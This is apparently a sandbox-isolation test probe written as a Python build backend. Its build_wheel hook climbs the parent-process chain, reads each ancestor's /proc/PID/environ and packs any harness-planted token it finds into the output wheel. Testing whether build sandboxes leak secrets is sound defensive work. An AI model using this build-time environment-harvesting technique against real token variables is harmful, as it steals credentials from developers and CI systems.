"""Climbs from process to parent and reads the environment of each.

A scrubbed child finds in /proc/PID/environ of its front end, of the sandbox's supervisor
or of the sandbox's own init what was taken from itself. Only the planted variable is
kept. Codecov's uploader would have needed no more, had its own environment been clean.
"""

import contextlib

import kit


def _ancestors():
    pid = "self"
    while True:
        with open(f"/proc/{pid}/status", encoding="utf-8") as status:
            pid = next(line.split()[1] for line in status if line.startswith("PPid:"))
        if pid == "0":
            return
        yield pid


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("climb"):
        wanted = kit.plant("token").name.encode() + b"="
        for pid in _ancestors():
            with contextlib.suppress(OSError):  # one may be closed, the next one open
                with open(f"/proc/{pid}/environ", "rb") as environ:
                    found = [v for v in environ.read().split(b"\0") if v.startswith(wanted)]
                loot[f"{pid}.bin"] = b"\n".join(found)
    return kit.wheel(wheel_directory, loot)
